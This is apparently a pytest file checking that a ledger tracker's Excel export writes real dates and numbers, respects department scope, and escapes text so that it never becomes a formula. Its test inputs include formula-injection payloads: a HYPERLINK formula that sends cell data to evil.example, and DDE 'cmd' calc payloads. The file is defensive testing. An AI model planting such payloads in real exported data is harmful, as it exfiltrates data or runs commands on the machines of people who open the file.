"""The XLSX writer and the ledger export: real dates and numbers, text never a formula,
forbidden characters dropped, department scope respected. Read back with openpyxl."""

import io
from datetime import UTC, date, datetime

from openpyxl import load_workbook

from tests.tracker.ledger.factory import HOUSING, actor, context, department_id, local
from tracker.ledger import Actor, excel_text, open_opinion_entry, perform
from tracker.ledger.export import COLUMNS, write_xlsx
from tracker.ledger.query import LedgerFilter
from tracker.ledger.xlsx import column_letter, write_sheet
from tracker.models import Department, LedgerEntry
from tracker.models.ledger import LedgerDepartment

HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "-1+1", "@SUM(A1)",
           "\t=1", "\r=1", "+1+cmd|' /C calc'!A0")
#: Every export column filled from outside text, with the entry field it comes from.
TEXT_COLUMNS = {"标题": "title", "来源/平台": "source_name", "链接": "url",
                "涉及单位": "involved_units", "主要内容": "summary", "处置情况": "reply_summary",
                "回应方式": "reply_channel", "责任人": "responsible_person",
                "满意度": "satisfaction", "备注": "note"}


def read(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_the_writer_keeps_types_and_never_writes_formulas():
    out = io.BytesIO()
    rows = [[1, "=HYPERLINK(\"http://evil\")", datetime(2025, 10, 30, 23, 59, 59),
             "a\x00b\x07c <&>", None],
            [2.5, "多行\n文本", date(2025, 1, 1), True, ""]]
    assert write_sheet(out, "台账", ["a", "b", "c", "d", "e"], [5] * 5, rows) == 2
    sheet = read(out.getvalue())
    assert sheet.title == "台账" and sheet.freeze_panes == "A2"
    values = list(sheet.iter_rows(values_only=True))
    assert values[1] == (1, '\'=HYPERLINK("http://evil")', datetime(2025, 10, 30, 23, 59, 59),
                         "abc <&>", None)
    assert sheet["B2"].data_type == "s" and sheet["C2"].number_format == "yyyy-mm-dd hh:mm"
    assert values[2] == (2.5, "多行\n文本", datetime(2025, 1, 1), True, None)
    assert [column_letter(i) for i in (0, 25, 26, 27)] == ["A", "Z", "AA", "AB"]


def test_the_export_has_one_row_per_visible_entry_with_local_times(session, demo_users):
    staff, responder = actor(session, "staff"), actor(session, "responder")
    ctx = context()
    entry = open_opinion_entry(session, title="=cmd|' /C calc'!A0", summary="内容",
                               source="论坛", url=None, found_at=local("2025-09-30 09:00"),
                               first_published_at=None, level="重大", mention_ids=[],
                               actor_id=staff.id, ctx=ctx)
    hidden = open_opinion_entry(session, title="别的部门", summary="", source=None, url=None,
                                found_at=local("2025-09-30 09:00"), first_published_at=None,
                                level=None, mention_ids=[], actor_id=staff.id, ctx=ctx)
    for action, data in (("assess", {}), ("assign", {
            "lead_department_id": department_id(session, HOUSING)})):
        perform(session, entry, action, staff, data=data, ctx=ctx, now=local("2025-09-30 10:00"))
    session.flush()
    out = io.BytesIO()
    now = datetime(2025, 10, 1, 0, 0, tzinfo=UTC)
    write_xlsx(session, LedgerFilter(), responder, out, now=now, tz=ctx.tz)
    rows = list(read(out.getvalue()).iter_rows(values_only=True))
    header = rows[0]
    assert list(header) == [h for h, _ in COLUMNS]
    ids = [r[header.index("编号")] for r in rows[1:]]
    assert entry.id in ids and hidden.id not in ids
    row = rows[1 + ids.index(entry.id)]
    assert row[header.index("标题")] == "'=cmd|' /C calc'!A0"
    assert row[header.index("发现时间")] == datetime(2025, 9, 30, 9, 0)
    assert row[header.index("截止时间")] == datetime(2025, 9, 30, 14, 0)
    assert row[header.index("是否超期")] == "是"
    assert row[header.index("等级")] == "重大" and row[header.index("责任单位")] == HOUSING
    assert row[header.index("办结情况")] == "交办"


def test_excel_text_neutralises_what_starts_a_formula_and_nothing_else():
    for text in HOSTILE:
        assert excel_text(text) == "'" + text
    for text in ("路灯不亮", "1+1", "A3区=", " =1", "'=1", ""):
        assert excel_text(text) == text


def test_every_text_column_of_the_export_is_text_never_a_formula(session):
    widths = {"reply_channel": 32, "responsible_person": 64, "satisfaction": 16}
    ids = []
    for index, text in enumerate(HOSTILE):
        lead, co = Department(name=f"{text}{index}"), Department(name=f"{text}协{index}")
        session.add_all([lead, co])
        session.flush()
        fields = {attr: text[:widths.get(attr, 512)] for attr in TEXT_COLUMNS.values()}
        entry = LedgerEntry(kind="opinion", status="handling", lead_department_id=lead.id,
                            received_at=local("2025-09-30 09:00"),
                            due_at=local("2025-10-02 09:00"), extension_days=3, **fields)
        session.add(entry)
        session.flush()
        session.add(LedgerDepartment(entry_id=entry.id, department_id=co.id))
        ids.append(entry.id)
    session.flush()
    out = io.BytesIO()
    write_xlsx(session, LedgerFilter(), Actor.system(), out,
               now=datetime(2025, 10, 1, tzinfo=UTC), tz=context().tz)
    sheet = read(out.getvalue())
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    header = [c.value for c in sheet[1]]
    rows = {r[header.index("编号")]: dict(zip(header, r, strict=True))
            for r in sheet.iter_rows(min_row=2, values_only=True)}
    for index, (entry_id, text) in enumerate(zip(ids, HOSTILE, strict=True)):
        row = rows[entry_id]
        for column, attr in TEXT_COLUMNS.items():
            assert row[column] == "'" + text[:widths.get(attr, 512)], (column, text)
        assert row["责任单位"] == f"'{text}{index}" and row["协办单位"] == f"'{text}协{index}"
        assert row["收到时间"] == datetime(2025, 9, 30, 9, 0)  # times stay dates
        assert row["延期工作日"] == 3 and isinstance(row["序号"], int)  # numbers stay numbers
